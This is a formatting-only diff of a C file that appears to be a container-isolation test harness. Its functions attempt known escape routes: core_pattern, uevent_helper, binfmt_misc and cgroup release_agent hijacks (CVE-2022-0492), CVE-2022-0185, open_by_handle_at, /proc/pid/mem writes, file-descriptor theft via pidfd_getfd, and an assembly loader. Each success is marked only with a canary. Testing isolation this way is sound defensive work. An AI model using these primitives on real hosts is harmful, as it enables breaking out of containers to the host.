@@ -47,14 +47,14 @@
 #include <time.h>
 #include <unistd.h>
 
-#define CANARY		"canary"
-#define REACHED		"reached\n"
-#define SECONDS_MAX	20
-#define WORDS_MAX	12
+#define CANARY	    "canary"
+#define REACHED	    "reached\n"
+#define SECONDS_MAX 20
+#define WORDS_MAX   12
 /* Where the victim on the host has its canary. */
-#define VICTIM_AT	((char *)0x10000000)
-#define VICTIM_FD	9
-#define LOADER_SIZE	4096
+#define VICTIM_AT   ((char *)0x10000000)
+#define VICTIM_FD   9
+#define LOADER_SIZE 4096
 
 struct operation {
 	const char *name;
@@ -174,8 +174,8 @@ static int fresh_procfs(char **args)
 	char path[256];
 
 	snprintf(path, sizeof(path), "%s/sys/kernel/core_pattern", args[0]);
-	return mount_new("proc", args[0], "proc", NULL) ?:
-	       core_pattern((char *[]){ path, args[1] });
+	return mount_new("proc", args[0], "proc", NULL)
+		       ?: core_pattern((char *[]){ path, args[1] });
 }
 
 /* A family that nobody has makes the kernel run modprobe. */
@@ -190,8 +190,8 @@ static int modprobe(char **args)
 
 static int uevent_helper(char **args)
 {
-	return write_text("/sys/kernel/uevent_helper", args[0]) ?:
-	       write_text("/sys/class/net/lo/uevent", "add");
+	return write_text("/sys/kernel/uevent_helper", args[0])
+		       ?: write_text("/sys/class/net/lo/uevent", "add");
 }
 
 static int binfmt(char **args)
@@ -199,8 +199,8 @@ static int binfmt(char **args)
 	char text[256];
 
 	snprintf(text, sizeof(text), ":escape:M::CANARY::%s:", args[1]);
-	return mount_new("binfmt_misc", args[0], "binfmt_misc", NULL) ?:
-	       write_below(args[0], "register", text);
+	return mount_new("binfmt_misc", args[0], "binfmt_misc", NULL)
+		       ?: write_below(args[0], "register", text);
 }
 
 /* CVE-2022-0492: the last process to leave a group runs its release_agent. */
@@ -228,8 +228,8 @@ static int notify_on_release(char **args)
 /* release_agent DIR HIERARCHY PROGRAM */
 static int release_agent(char **args)
 {
-	return mount_new("none", args[0], "cgroup", args[1]) ?:
-	       notify_on_release((char *[]){ args[0], args[2] });
+	return mount_new("none", args[0], "cgroup", args[1])
+		       ?: notify_on_release((char *[]){ args[0], args[2] });
 }
 
 static int release_agent_user_ns(char **args)
@@ -361,7 +361,7 @@ static int module_bytes(char **args)
 }
 
 #define KEXEC_FILE_UNLOAD	1
-#define KEXEC_FILE_NO_INITRAMFS	4
+#define KEXEC_FILE_NO_INITRAMFS 4
 
 static int kexec(char **args)
 {
@@ -376,8 +376,8 @@ static int kexec(char **args)
 static int kexec_unload(char **args)
 {
 	(void)args;
-	return result(syscall(SYS_kexec_file_load, -1, -1, 0UL, NULL,
-			      (unsigned long)KEXEC_FILE_UNLOAD));
+	return result(
+		syscall(SYS_kexec_file_load, -1, -1, 0UL, NULL, (unsigned long)KEXEC_FILE_UNLOAD));
 }
 
 static int set_clock(char **args)
@@ -415,8 +415,7 @@ static int sniff(char **args)
 	int fd = socket(AF_PACKET, SOCK_RAW, 0);
 
 	(void)args;
-	return fd < 0 ? errno :
-	       result(bind(fd, (struct sockaddr *)&address, sizeof(address)));
+	return fd < 0 ? errno : result(bind(fd, (struct sockaddr *)&address, sizeof(address)));
 }
 
 /* CVE-2022-0185: who makes a user namespace gets at code that is for root. */
@@ -427,8 +426,9 @@ static int open_filesystem(char **args)
 	if (unshare(CLONE_NEWUSER | CLONE_NEWNS))
 		return errno;
 	fd = syscall(SYS_fsopen, args[0], 0);
-	return fd < 0 ? errno :
-	       result(syscall(SYS_fsconfig, fd, 1 /* FSCONFIG_SET_STRING */, "size", "4096", 0));
+	return fd < 0 ? errno
+		      : result(syscall(SYS_fsconfig, fd, 1 /* FSCONFIG_SET_STRING */, "size",
+				       "4096", 0));
 }
 
 /*
@@ -443,7 +443,8 @@ static int alg_decrypts(int fd, int file)
 	char control[3 * CMSG_SPACE(4) + CMSG_SPACE(20)] = "", aad[8] = "";
 	struct iovec vec = { aad, sizeof(aad) };
 	struct msghdr message = {
-		.msg_iov = &vec, .msg_iovlen = 1,
+		.msg_iov = &vec,
+		.msg_iovlen = 1,
 		.msg_control = control,
 		.msg_controllen = CMSG_SPACE(4) + CMSG_SPACE(20) + CMSG_SPACE(4),
 	};
@@ -465,8 +466,7 @@ static int alg_decrypts(int fd, int file)
 	item = CMSG_NXTHDR(&message, item);
 	*item = (struct cmsghdr){ CMSG_LEN(4), SOL_ALG, ALG_SET_AEAD_ASSOCLEN };
 	*(int *)CMSG_DATA(item) = sizeof(aad);
-	if (sendmsg(op, &message, MSG_MORE) < 0 ||
-	    splice(file, NULL, fds[1], NULL, 32, 0) < 0 ||
+	if (sendmsg(op, &message, MSG_MORE) < 0 || splice(file, NULL, fds[1], NULL, 32, 0) < 0 ||
 	    splice(fds[0], NULL, op, NULL, 32, 0) < 0)
 		return errno;
 	return read(op, out, sizeof(out)) < 0 && errno != EBADMSG ? errno : 0;
@@ -511,7 +511,7 @@ static int by_handle(char **args)
 
 	if (file < 0)
 		return errno;
-	root.handle.f_handle[0] = 2;	/* the inode of ext4's root */
+	root.handle.f_handle[0] = 2; /* the inode of ext4's root */
 	dir = open_by_handle_at(file, &root.handle, O_RDONLY | O_DIRECTORY);
 	return dir < 0 ? errno : write_fd(openat(dir, args[1], O_WRONLY), REACHED);
 }
@@ -548,8 +548,8 @@ static int redirect_sysctl(char **args)
 
 static int redirect_label(char **args)
 {
-	int err = mount_new("proc", "/tmp/real", "proc", NULL) ?:
-		  mount_new("tmpfs", "/proc", "tmpfs", NULL);
+	int err = mount_new("proc", "/tmp/real", "proc", NULL)
+			  ?: mount_new("tmpfs", "/proc", "tmpfs", NULL);
 
 	if (!err && (mkdir("/proc/self", 0755) || mkdir("/proc/self/attr", 0755) ||
 		     symlink(args[0], "/proc/self/attr/exec")))
@@ -631,8 +631,7 @@ static int proc_mem(char **args)
 
 	snprintf(path, sizeof(path), "/proc/%s/mem", args[0]);
 	fd = open(path, O_RDWR);
-	return fd < 0 ? errno : result(pwrite(fd, REACHED, sizeof(REACHED) - 1,
-					      (off_t)VICTIM_AT));
+	return fd < 0 ? errno : result(pwrite(fd, REACHED, sizeof(REACHED) - 1, (off_t)VICTIM_AT));
 }
 
 static int proc_root(char **args)
@@ -655,8 +654,7 @@ static int steal_fd(char **args)
 {
 	int pidfd = syscall(SYS_pidfd_open, number(args[0]), 0);
 
-	return pidfd < 0 ? errno :
-	       write_fd(syscall(SYS_pidfd_getfd, pidfd, VICTIM_FD, 0), REACHED);
+	return pidfd < 0 ? errno : write_fd(syscall(SYS_pidfd_getfd, pidfd, VICTIM_FD, 0), REACHED);
 }
 
 static int enter_path(char **args)
@@ -760,13 +758,13 @@ static int watch(char **args)
  */
 __asm__(".pushsection .rodata\n"
 	"loader_begin:\n"
-	"	mov	$257, %eax\n"		/* openat */
+	"	mov	$257, %eax\n" /* openat */
 	"	mov	$-100, %edi\n"
 	"	lea	3f(%rip), %rsi\n"
-	"	mov	$0x200000, %edx\n"	/* O_PATH */
+	"	mov	$0x200000, %edx\n" /* O_PATH */
 	"	syscall\n"
 	"	mov	%eax, %edi\n"
-	"	mov	$33, %eax\n"		/* dup2 */
+	"	mov	$33, %eax\n" /* dup2 */
 	"	mov	$50, %esi\n"
 	"	syscall\n"
 	"	xor	%edx, %edx\n"
@@ -780,11 +778,11 @@ __asm__(".pushsection .rodata\n"
 	"	lea	4f(%rip), %rdi\n"
 	"	push	%rdi\n"
 	"	mov	%rsp, %rsi\n"
-	"	mov	$59, %eax\n"		/* execve */
+	"	mov	$59, %eax\n" /* execve */
 	"	syscall\n"
 	"	mov	%eax, %edi\n"
 	"	neg	%edi\n"
-	"	mov	$60, %eax\n"		/* exit */
+	"	mov	$60, %eax\n" /* exit */
 	"	syscall\n"
 	"3:	.asciz	\"/proc/self/exe\"\n"
 	"4:	.asciz	\"/escape\"\n"
@@ -819,8 +817,7 @@ static int make_loader(char **args)
 	};
 	int fd = open(args[0], O_WRONLY | O_CREAT | O_TRUNC, 0755);
 
-	if (fd < 0 || write(fd, &header, sizeof(header)) < 0 ||
-	    write(fd, loader_begin, length) < 0)
+	if (fd < 0 || write(fd, &header, sizeof(header)) < 0 || write(fd, loader_begin, length) < 0)
 		return errno;
 	return result(ftruncate(fd, LOADER_SIZE));
 }
@@ -875,8 +872,8 @@ static int runtime_masks(char **args)
 {
 	static const char *const names[] = { "mnt", NULL };
 
-	return enter_namespaces(args[0], names) ?:
-	       result(mount(args[1], args[2], NULL, MS_BIND, NULL));
+	return enter_namespaces(args[0], names)
+		       ?: result(mount(args[1], args[2], NULL, MS_BIND, NULL));
 }
 
 /* runtime_writes PID FILE TEXT: a setting for the container, or its security label. */
@@ -893,8 +890,9 @@ static int where(char **args)
 	union {
 		struct fiemap map;
 		char room[sizeof(struct fiemap) + sizeof(struct fiemap_extent)];
-	} map = { .map = { .fm_length = ~0ULL, .fm_flags = FIEMAP_FLAG_SYNC,
-			   .fm_extent_count = 1 } };
+	} map = {
+		.map = { .fm_length = ~0ULL, .fm_flags = FIEMAP_FLAG_SYNC, .fm_extent_count = 1 }
+	};
 	int fd = open(args[0], O_RDONLY);
 
 	if (fd < 0 || fsync(fd) || ioctl(fd, FS_IOC_FIEMAP, &map))
@@ -1078,7 +1076,7 @@ static void batch_line(char *line)
 	int count = 0;
 	pid_t child;
 
-	for (words[0] = strtok_r(line, " \n", &rest); words[count] && count < WORDS_MAX - 1; )
+	for (words[0] = strtok_r(line, " \n", &rest); words[count] && count < WORDS_MAX - 1;)
 		words[++count] = strtok_r(NULL, " \n", &rest);
 	if (!count)
 		return;
